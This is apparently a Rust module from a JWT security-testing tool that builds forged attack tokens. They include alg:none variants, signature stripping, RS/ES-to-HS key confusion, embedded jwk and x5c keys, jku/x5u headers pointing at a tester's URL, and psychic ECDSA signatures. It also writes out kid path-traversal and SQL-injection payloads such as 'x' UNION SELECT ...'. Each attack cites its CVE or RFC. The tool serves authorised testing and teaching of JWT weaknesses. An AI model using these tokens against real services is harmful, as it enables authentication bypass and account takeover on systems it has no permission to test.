//! Making each attack's tokens. HMAC is computed here directly (an attack signs with whatever
//! bytes a flawed server would use, however short); asymmetric attacks sign with keys made on
//! the spot.

use base64::Engine as _;
use serde_json::{Map, Value, json};

use super::{AttackError, AttackOptions, AttackToken, Base, Serve, title};
use crate::core::alg::Curve;
use crate::core::{Alg, Key, b64, export, keygen, keys, sign};
use crate::msg;

fn part(map: &Map<String, Value>) -> String {
    b64::encode(Value::Object(map.clone()).to_string())
}

fn with_alg(base: &Base, alg: &str) -> Map<String, Value> {
    let mut header = base.header.clone();
    header.insert("alg".into(), Value::from(alg));
    header
}

fn push(
    out: &mut Vec<AttackToken>,
    id: &'static str,
    variant: impl Into<String>,
    reference: &'static str,
    token: String,
) {
    out.push(AttackToken {
        id,
        variant: variant.into(),
        title: title(id),
        reference,
        token,
        serve: None,
    });
}

/// HMAC over `input` with `secret`, base64url.
fn hmac(alg: Alg, secret: &[u8], input: &str) -> String {
    use aws_lc_rs::hmac;
    let algorithm = alg.hmac().unwrap_or(hmac::HMAC_SHA256);
    let key = hmac::Key::new(algorithm, secret);
    b64::encode(hmac::sign(&key, input.as_bytes()).as_ref())
}

fn hmac_token(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    alg: Alg,
    secret: &[u8],
) -> String {
    let input = format!("{}.{}", part(header), part(claims));
    let sig = hmac(alg, secret, &input);
    format!("{input}.{sig}")
}

fn signed(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    alg: Alg,
    key: &Key,
) -> Result<String, AttackError> {
    let input = format!("{}.{}", part(header), part(claims));
    let sig = sign::sign_input(alg, input.as_bytes(), Some(key), sign::Unsecured::Refuse)
        .map_err(|e| AttackError(msg!("attack-sign", error = e.to_string())))?;
    Ok(format!("{input}.{sig}"))
}

fn fresh_ec() -> Result<Key, AttackError> {
    keygen::generate(keygen::KeyKind::Ec(Curve::P256))
        .map_err(|e| AttackError(msg!("attack-sign", error = e.to_string())))
}

/// `alg: none` in the spellings servers have been fooled by, without a signature and with the
/// original one kept.
pub(super) fn none(base: &Base, out: &mut Vec<AttackToken>) {
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let header = with_alg(base, spelling);
        let unsigned = format!("{}.{}.", part(&header), part(&base.claims));
        push(
            out,
            "none",
            spelling,
            "CVE-2015-9235; RFC 8725 §3.1",
            unsigned.clone(),
        );
        if !base.signature.is_empty() {
            push(
                out,
                "none",
                format!("{spelling}-original-signature"),
                "CVE-2015-9235; RFC 8725 §3.1",
                format!("{unsigned}{}", base.signature),
            );
        }
    }
}

/// The original `alg` with the signature removed.
pub(super) fn strip(base: &Base, out: &mut Vec<AttackToken>) {
    let token = format!("{}.{}.", part(&base.header), part(&base.claims));
    push(out, "strip", "no-signature", "RFC 8725 §3.1", token);
}

/// The public key's forms a server may hold, as bytes.
fn key_forms(key: &Key) -> Vec<(String, Vec<u8>)> {
    let mut forms = Vec::new();
    if let Ok(pem) = export::public_pem(key) {
        forms.push(("spki-pem-newline".to_owned(), pem.clone().into_bytes()));
        forms.push(("spki-pem".to_owned(), pem.trim_end().as_bytes().to_vec()));
        let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
        if let Ok(der) = base64::engine::general_purpose::STANDARD.decode(body) {
            forms.push(("der".to_owned(), der));
        }
    }
    if let Ok(pem) = export::public_pem_pkcs1(key) {
        forms.push(("pkcs1-pem".to_owned(), pem.into_bytes()));
    }
    forms.push((
        "jwk".to_owned(),
        export::jwk(key, false).to_string().into_bytes(),
    ));
    // The text the key was given as (a certificate PEM, an OpenSSH line, a JWK as served).
    if let Some(text) = &key.public_text {
        let form = if text.contains("BEGIN CERTIFICATE") {
            "cert-pem"
        } else if text.starts_with("ssh-") || text.starts_with("ecdsa-") {
            "openssh"
        } else {
            "as-given"
        };
        if !forms.iter().any(|(_, b)| b == text.as_bytes()) {
            forms.push((form.to_owned(), text.clone().into_bytes()));
        }
    }
    forms
}

/// HMAC signed with the bytes of the server's public key (RS/ES → HS key confusion).
pub(super) fn hmac_confusion(base: &Base, options: &AttackOptions, out: &mut Vec<AttackToken>) {
    let mut forms: Vec<(String, Vec<u8>)> = options
        .public_keys
        .iter()
        .filter(|k| !k.is_secret())
        .flat_map(key_forms)
        .collect();
    forms.extend(
        options
            .served_texts
            .iter()
            .map(|(label, text)| (format!("served-{label}"), text.clone().into_bytes())),
    );
    for (form, bytes) in forms {
        for alg in [Alg::HS256, Alg::HS384, Alg::HS512] {
            let header = with_alg(base, alg.name());
            push(
                out,
                "hmac-confusion",
                format!("{form}/{alg}"),
                "CVE-2016-10555; RFC 8725 §2.1",
                hmac_token(&header, &base.claims, alg, &bytes),
            );
        }
    }
}

/// A fresh key pair, its public JWK in the header, signed with it (CVE-2018-0114).
pub(super) fn embedded_jwk(base: &Base, out: &mut Vec<AttackToken>) -> Result<(), AttackError> {
    let key = fresh_ec()?;
    let mut header = with_alg(base, "ES256");
    header.remove("kid");
    header.insert("jwk".into(), export::jwk(&key, false));
    push(
        out,
        "embedded-jwk",
        "ES256",
        "CVE-2018-0114",
        signed(&header, &base.claims, Alg::ES256, &key)?,
    );
    Ok(())
}

/// A fresh key and a self-signed certificate for it in `x5c`, and the key as PEM text.
pub fn self_signed_certificate() -> Result<(Key, Vec<u8>, String), AttackError> {
    let fail = |e: rcgen::Error| AttackError(msg!("attack-sign", error = e.to_string()));
    let pair = rcgen::KeyPair::generate().map_err(fail)?;
    let params = rcgen::CertificateParams::new(vec!["jwt-debugger.attacker.invalid".to_owned()])
        .map_err(fail)?;
    let cert = params.self_signed(&pair).map_err(fail)?;
    let set = keys::parse_text(&pair.serialize_pem())
        .map_err(|e| AttackError(msg!("attack-sign", error = e.to_string())))?;
    let key = set
        .keys
        .into_iter()
        .next()
        .ok_or_else(|| AttackError(msg!("attack-sign", error = "no key")))?;
    Ok((key, cert.der().to_vec(), cert.pem()))
}

pub(super) fn embedded_x5c(base: &Base, out: &mut Vec<AttackToken>) -> Result<(), AttackError> {
    let (key, der, _) = self_signed_certificate()?;
    let mut header = with_alg(base, "ES256");
    header.remove("kid");
    header.insert(
        "x5c".into(),
        json!([base64::engine::general_purpose::STANDARD.encode(der)]),
    );
    push(
        out,
        "embedded-x5c",
        "ES256",
        "RFC 8725 §3.10; RFC 7515 §4.1.6",
        signed(&header, &base.claims, Alg::ES256, &key)?,
    );
    Ok(())
}

/// `jku` pointing at the tester's URL, signed with a fresh key whose JWKS is to be served there.
pub(super) fn jku(
    base: &Base,
    options: &AttackOptions,
    out: &mut Vec<AttackToken>,
) -> Result<(), AttackError> {
    let Some(url) = &options.jku else {
        return Ok(());
    };
    let key = fresh_ec()?;
    let kid = "jwt-debugger-attack";
    let mut jwk = export::jwk(&key, false);
    jwk["kid"] = Value::from(kid);
    let mut header = with_alg(base, "ES256");
    header.insert("jku".into(), Value::from(url.as_str()));
    header.insert("kid".into(), Value::from(kid));
    out.push(AttackToken {
        id: "jku",
        variant: "ES256".into(),
        title: title("jku"),
        reference: "RFC 8725 §3.10; RFC 7515 §4.1.2",
        token: signed(&header, &base.claims, Alg::ES256, &key)?,
        serve: Some(Serve {
            url: url.clone(),
            body: json!({ "keys": [jwk] }).to_string(),
            content_type: "application/jwk-set+json".into(),
        }),
    });
    Ok(())
}

/// `x5u` pointing at the tester's URL, signed with a fresh key whose certificate is served there.
pub(super) fn x5u(
    base: &Base,
    options: &AttackOptions,
    out: &mut Vec<AttackToken>,
) -> Result<(), AttackError> {
    let Some(url) = &options.x5u else {
        return Ok(());
    };
    let (key, _, pem) = self_signed_certificate()?;
    let mut header = with_alg(base, "ES256");
    header.remove("kid");
    header.insert("x5u".into(), Value::from(url.as_str()));
    out.push(AttackToken {
        id: "x5u",
        variant: "ES256".into(),
        title: title("x5u"),
        reference: "RFC 8725 §3.10; RFC 7515 §4.1.5",
        token: signed(&header, &base.claims, Alg::ES256, &key)?,
        serve: Some(Serve {
            url: url.clone(),
            body: pem,
            content_type: "application/pem-certificate-chain".into(),
        }),
    });
    Ok(())
}

/// `kid` traversing to a file whose content is known, signed with that content.
pub(super) fn kid_path(
    base: &Base,
    options: &AttackOptions,
    out: &mut Vec<AttackToken>,
) -> Result<(), AttackError> {
    let mut payloads: Vec<(String, Vec<u8>)> = vec![
        ("../../../../../../../../../../dev/null".into(), Vec::new()),
        ("/dev/null".into(), Vec::new()),
    ];
    payloads.extend(options.kid_payloads.iter().cloned());
    for (path, content) in payloads {
        let mut header = with_alg(base, "HS256");
        header.insert("kid".into(), Value::from(path.as_str()));
        push(
            out,
            "kid-path",
            path,
            "RFC 8725 §3.10; CWE-22",
            hmac_token(&header, &base.claims, Alg::HS256, &content),
        );
    }
    Ok(())
}

/// The secret the `kid` SQL injection makes the server's query return.
pub const SQL_KEY: &str = "jwt-debugger-sql";

/// `kid` SQL injection whose query returns a known key, signed with it.
pub(super) fn kid_sql(base: &Base, out: &mut Vec<AttackToken>) -> Result<(), AttackError> {
    for kid in [
        format!("x' UNION SELECT '{SQL_KEY}' -- "),
        format!("x' UNION SELECT '{SQL_KEY}';--"),
        format!("0 UNION SELECT '{SQL_KEY}'"),
    ] {
        let mut header = with_alg(base, "HS256");
        header.insert("kid".into(), Value::from(kid.as_str()));
        push(
            out,
            "kid-sql",
            kid,
            "RFC 8725 §3.10; CWE-89",
            hmac_token(&header, &base.claims, Alg::HS256, SQL_KEY.as_bytes()),
        );
    }
    Ok(())
}

/// ECDSA with r = s = 0 (CVE-2022-21449, Java 15–18).
pub(super) fn psychic(base: &Base, out: &mut Vec<AttackToken>) {
    for (alg, len) in [(Alg::ES256, 64), (Alg::ES384, 96), (Alg::ES512, 132)] {
        let header = with_alg(base, alg.name());
        let token = format!(
            "{}.{}.{}",
            part(&header),
            part(&base.claims),
            b64::encode(vec![0u8; len])
        );
        push(out, "psychic", alg.name(), "CVE-2022-21449", token);
    }
}

/// HMAC with an empty secret.
pub(super) fn empty_key(base: &Base, out: &mut Vec<AttackToken>) -> Result<(), AttackError> {
    let header = with_alg(base, "HS256");
    push(
        out,
        "empty-key",
        "HS256",
        "RFC 7518 §3.2",
        hmac_token(&header, &base.claims, Alg::HS256, b""),
    );
    Ok(())
}

/// The changed claims signed with a known or guessed secret.
pub(super) fn weak_secret(
    base: &Base,
    options: &AttackOptions,
    out: &mut Vec<AttackToken>,
) -> Result<(), AttackError> {
    let Some(secret) = &options.secret else {
        return Ok(());
    };
    let alg = base
        .header
        .get("alg")
        .and_then(Value::as_str)
        .and_then(Alg::parse)
        .filter(|a| a.min_secret_len().is_some())
        .unwrap_or(Alg::HS256);
    let header = with_alg(base, alg.name());
    push(
        out,
        "weak-secret",
        alg.name(),
        "RFC 8725 §3.5",
        hmac_token(&header, &base.claims, alg, secret),
    );
    Ok(())
}
